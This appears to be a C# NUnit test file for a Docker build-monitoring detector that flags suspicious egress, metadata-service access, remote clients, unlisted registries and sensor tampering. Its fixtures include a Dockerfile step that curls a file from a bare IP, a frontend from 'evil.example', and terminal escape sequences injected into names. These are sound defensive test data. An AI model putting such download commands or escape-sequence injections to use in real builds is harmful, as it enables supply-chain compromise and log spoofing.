using ImageSentinel.Detection.Builds;
using ImageSentinel.Detection.Detectors;
using ImageSentinel.Detection.Events;
using ImageSentinel.Detection.Model;
using NUnit.Framework;

namespace ImageSentinel.Tests.Detection;

/// <summary>The classic builder, who asks, what the engine fetches itself, and egress that is telling by its kind.</summary>
[TestFixture]
public sealed class OtherScenarioTests
{
    private const string Download = "curl -o /x http://203.0.113.66/x";
    private const string Bad = "FROM alpine:3\nRUN " + Download + "\n";

    private static ContainerFact StepContainer(int id, string command) => new(
        0, Scene.Hex(id), "sha256:" + Scene.Hex(90), "sha256:" + Scene.Hex(90), ["/bin/sh", "-c", command], "step", false, "",
        "json-file", "default", false, "", "", [], "layer-" + Scene.Hex(id)[..4], true, false, null);

    private static Scene OneStep(Scene scene, string dockerfile = Bad, string command = Download) => scene
        .Client(200, "docker", "build", "-t", "example/app:1", "/ctx")
        .SnapshotDockerfile(1, dockerfile)
        .BuildKitStep(1, 300, command);

    [Test]
    public void A_base_image_that_is_pulled_for_a_classic_build_is_not_its_result()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .File("tmp/docker-builder123", FileChange.Created | FileChange.Directory)
            .File("tmp/docker-builder123/Dockerfile")
            .Tell(new DockerfileFact(0, "tmp/docker-builder123/Dockerfile", 0, Bad))
            .Tagged("alpine@sha256:" + Scene.Hex(5), 90)
            .Tagged("alpine:3", 90);

        using (Assert.EnterMultipleScope())
        {
            Assert.That(scene.OnlyBuild.Tags, Is.Empty);
            Assert.That(scene.OnlyBuild.ImageId, Is.Empty);
        }
    }

    [Test]
    public void A_classic_build_is_one_finding_with_step_client_tag_and_verdict()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/app:1", "/ctx")
            .File("tmp/docker-builder123", FileChange.Created | FileChange.Directory)
            .File("tmp/docker-builder123/Dockerfile")
            .Tell(new DockerfileFact(0, "tmp/docker-builder123/Dockerfile", 0, Bad))
            .File($"containers/{Scene.Hex(7)}/config.v2.json")
            .Tell(StepContainer(7, Download))
            .Run(1, 500, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(7), "-address", "/x")
            .Run(500, 501, "runc", "create", "--bundle", "/run/docker/moby/" + Scene.Hex(7), Scene.Hex(7))
            .Fork(501, 502).Exec(502, 501, 0, "/bin/sh", "-c", Download)
            .Exit(501)
            .Run(502, 503, "curl", "-o", "/x", "http://203.0.113.66/x")
            .Connect(503)
            .Exit(503).Exit(502)
            .Run(500, 510, "runc", "delete", Scene.Hex(7))
            .File($"image/overlay2/imagedb/content/sha256/{Scene.Hex(1)}")
            .Tell(new ImageFact(0, "sha256:" + Scene.Hex(1), Scene.Hex(7), "sha256:" + Scene.Hex(90), ["base", "layer"], []))
            .Tagged("example/app:1", 1)
            .File("tmp/docker-builder123", FileChange.Deleted | FileChange.Directory)
            .Exit(200).After(3000);

        Build build = scene.OnlyBuild;
        Finding finding = scene.Findings.Single();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(build.Builder, Is.EqualTo(Builder.Classic));
            Assert.That(finding.Detector, Is.SameAs(DetectorDefinition.NeverSeenEgress));
            Assert.That(finding.Step!.Index, Is.EqualTo(2));
            Assert.That(finding.Step.ContainerId, Is.EqualTo(Scene.Hex(7)));
            Assert.That(build.Clients[0].Process!.Pid, Is.EqualTo(200));
            Assert.That(build.Tags, Is.EqualTo(new[] { "example/app:1" }));
            Assert.That(build.Result, Is.EqualTo(BuildResult.Succeeded));
            Assert.That(build.Verdict, Is.EqualTo(Verdict.Suspicious));
            Assert.That(build.Steps.Single().ExitCode, Is.Zero);
        }
    }

    [Test]
    public void What_a_container_tried_before_it_was_known_as_a_step_is_judged_then()
    {
        Scene scene = new Scene()
            .File("tmp/docker-builder123", FileChange.Created | FileChange.Directory)
            .Run(1, 500, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(7), "-address", "/x")
            .Run(500, 501, "runc", "create", "--bundle", "/run/docker/moby/" + Scene.Hex(7), Scene.Hex(7))
            .Run(501, 502, "/bin/sh", "-c", Download)
            .Connect(502);
        Assert.That(scene.Findings, Is.Empty);

        scene.Tell(StepContainer(7, Download));

        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
        Assert.That(scene.Asked, Has.Some.EqualTo(new ContainerLookup(0, Scene.Hex(7))));
    }

    [Test]
    public void A_remote_client_on_plain_tcp_is_critical()
    {
        Scene scene = new Scene().RemoteApi("198.51.100.7")
            .SnapshotDockerfile(1, Bad)
            .BuildKitStep(1, 300, Download).After(4000).EndBuildKitStep(300).After(40_000);

        Finding finding = scene.Find("build-by-unexpected-client")!;
        Assert.That(finding.Severity, Is.EqualTo(Severity.Critical));
        Assert.That(finding.Message, Does.Contain("198.51.100.7"));
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Malicious));
    }

    [Test]
    public void A_remote_client_over_tls_is_high()
    {
        Scene scene = new Scene(tls: true).RemoteApi("198.51.100.7")
            .SnapshotDockerfile(1, Bad)
            .BuildKitStep(1, 300, Download).After(4000).EndBuildKitStep(300).After(40_000);

        Assert.That(scene.Find("build-by-unexpected-client")!.Severity, Is.EqualTo(Severity.High));
    }

    [TestCase("", false, TestName = "Nobody_is_unexpected_while_trusted_clients_is_empty")]
    [TestCase("ci", true, TestName = "A_local_user_who_is_not_trusted_is_medium")]
    [TestCase("ann", false, TestName = "A_trusted_user_is_expected")]
    public void Local_clients_are_judged_by_the_list(string trusted, bool told)
    {
        CorePolicy policy = trusted.Length == 0 ? CorePolicy.Default
            : CorePolicy.Default with { TrustedClients = [new TrustedClient(trusted, null, "", null, "", "")] };
        Scene scene = OneStep(new Scene(policy), "FROM alpine\nRUN true\n", "true")
            .After(3000).EndBuildKitStep(300).Exit(200).After(3000);

        Assert.That(scene.Find("build-by-unexpected-client")?.Severity, Is.EqualTo(told ? Severity.Medium : null));
    }

    [Test]
    public void Thirty_hosts_from_one_step_are_a_fan_out()
    {
        Scene scene = OneStep(new Scene());
        for (int i = 1; i <= 29; i++)
        {
            scene.Connect(302, $"198.51.100.{i}");
        }

        Assert.That(scene.Find("egress-fan-out"), Is.Null);
        scene.Connect(302, "198.51.100.30");
        Assert.That(scene.Find("egress-fan-out")!.Severity, Is.EqualTo(Severity.High));
    }

    [TestCase("169.254.169.254")]
    [TestCase("fd00:ec2::254")]
    public void The_metadata_service_is_told_whatever_the_baseline_knows(string address)
    {
        var scene = new Scene();
        scene.Baseline.Learn(Scene.To(address), scene.Now);
        OneStep(scene).Connect(302, address);

        Assert.That(scene.Find("metadata-service")!.Severity, Is.EqualTo(Severity.High));
        Assert.That(scene.Find("never-seen-egress"), Is.Null);
    }

    [TestCase(EgressPath.IoUring, EgressProtocol.Tcp, Severity.High)]
    [TestCase(EgressPath.Syscall32, EgressProtocol.Tcp, Severity.Medium)]
    [TestCase(EgressPath.FlowOnly, EgressProtocol.Udp, Severity.High)]
    [TestCase(EgressPath.Syscall, EgressProtocol.Raw, Severity.High)]
    public void A_path_around_ordinary_calls_is_told(EgressPath path, EgressProtocol protocol, Severity severity)
    {
        Scene scene = OneStep(new Scene()).Connect(302, protocol: protocol, path: path);

        Assert.That(scene.Find("unusual-egress-path")!.Severity, Is.EqualTo(severity));
    }

    [Test]
    public void An_ADD_from_a_bare_address_is_a_daemon_fetch()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/app:1", "/ctx")
            .SnapshotDockerfile(1, "FROM scratch\nADD http://203.0.113.66:8080/x /x\n")
            .Connect(Scene.Daemon, port: 8080, exe: "/usr/bin/dockerd");

        DaemonFetch fetch = scene.OnlyBuild.Fetches.Single();
        Assert.That(fetch.Kind, Is.EqualTo("add"));
        Assert.That(fetch.Ambiguous, Is.False);
        Assert.That(scene.Find("never-seen-egress")!.Message, Does.Contain("203.0.113.66:8080").And.Contains("the engine itself"));
    }

    [Test]
    public void A_git_context_is_a_daemon_fetch_by_its_child_process()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "http://203.0.113.66/x.git")
            .SnapshotDockerfile(1, "FROM scratch\nCOPY . /\n")
            .Run(Scene.Daemon, 320, "git", "fetch", "origin")
            .Run(320, 321, "git-remote-http", "origin", "http://203.0.113.66/x.git")
            .Connect(321, exe: "/usr/lib/git-core/git-remote-http");

        Assert.That(scene.OnlyBuild.Fetches.Single().Kind, Is.EqualTo("git"));
        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
    }

    [Test]
    public void A_base_image_from_a_bare_address_is_a_pull()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, "FROM 203.0.113.66:5000/base:1\nRUN true\n")
            .Connect(Scene.Daemon, port: 5000, exe: "/usr/bin/dockerd");

        Assert.That(scene.OnlyBuild.Fetches.Single().Kind, Is.EqualTo("pull"));
    }

    [Test]
    public void A_fetch_that_somebody_elses_pull_may_have_caused_is_recorded_and_wakes_nobody()
    {
        Scene scene = new Scene()
            .Client(210, "docker", "pull", "nginx")
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, "FROM alpine\nRUN sleep 9\n")
            .BuildKitStep(1, 300, "sleep 9")
            .Connect(Scene.Daemon, "198.51.100.5", 443, exe: "/usr/bin/dockerd")
            .After(6000);

        Assert.That(scene.OnlyBuild.Fetches.Single().Ambiguous, Is.True);
        Assert.That(scene.Findings, Is.Empty);
    }

    [Test]
    public void What_the_engine_does_without_a_build_teaches_the_baseline()
    {
        Scene scene = new Scene().Connect(Scene.Daemon, "198.51.100.5", 443, exe: "/usr/bin/dockerd").After(6000);

        Assert.That(scene.Findings, Is.Empty);
        Assert.That(scene.Baseline.Seen.Count, Is.EqualTo(1));
    }

    [Test]
    public void More_images_than_the_threshold_by_one_client_are_a_burst()
    {
        var scene = new Scene(CorePolicy.Default with { NewImageThreshold = 3 });
        for (int i = 1; i <= 4; i++)
        {
            Assert.That(scene.Find("image-burst"), Is.Null);
            scene.Client(200 + i, "docker", "build", "-t", $"example/app:{i}", "/ctx")
                .SnapshotDockerfile(i, $"FROM alpine\nRUN echo {i}\n")
                .BuildKitStep(i, 1000 * i, $"echo {i}", "layer-" + i).EndBuildKitStep(1000 * i)
                .Image(i, ["base", "layer-" + i], $"example/app:{i}", $"RUN /bin/sh -c echo {i} # buildkit")
                .Exit(200 + i).After(3000);
        }

        Assert.That(scene.Find("image-burst")!.Severity, Is.EqualTo(Severity.Medium));
    }

    [Test]
    public void A_base_image_and_a_frontend_from_unlisted_registries_are_told()
    {
        var scene = new Scene(CorePolicy.Default with { RegistryAllowList = ["registry.example", "docker.io/library"] });
        scene.Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, "# syntax=evil.example/frontend:1\nFROM other.example/base\nRUN true\n")
            .BuildKitStep(1, 300, "true").EndBuildKitStep(300).Exit(200).After(3000);

        Finding finding = scene.Find("unlisted-registry")!;
        Assert.That(finding.Severity, Is.EqualTo(Severity.High));
        Assert.That(finding.Evidence.Select(static e => e.Summary), Has.Some.Contains("other.example/base").And.Some.Contains("evil.example/frontend"));
    }

    [Test]
    public void Interference_with_a_sensor_is_told_without_any_build()
    {
        Scene scene = new Scene().Tell(new TamperFact("audit", "3 of our rules were removed"));

        Assert.That(scene.Find("sensor-tampered")!.Severity, Is.EqualTo(Severity.High));
    }

    [Test]
    public void Nothing_a_step_names_reaches_a_message_unescaped()
    {
        Scene scene = OneStep(new Scene(), "FROM alpine\nRUN \u001b[2Jx\n", "\u001b[2Jx").Run(302, 303, "curl\u001b]0;owned\u0007", "\u202e").Connect(303);

        Assert.That(scene.Find("never-seen-egress")!.Message, Does.Not.Contain("\u001b").And.Not.Contains("\u0007").And.Not.Contains("\u202e"));
    }
}
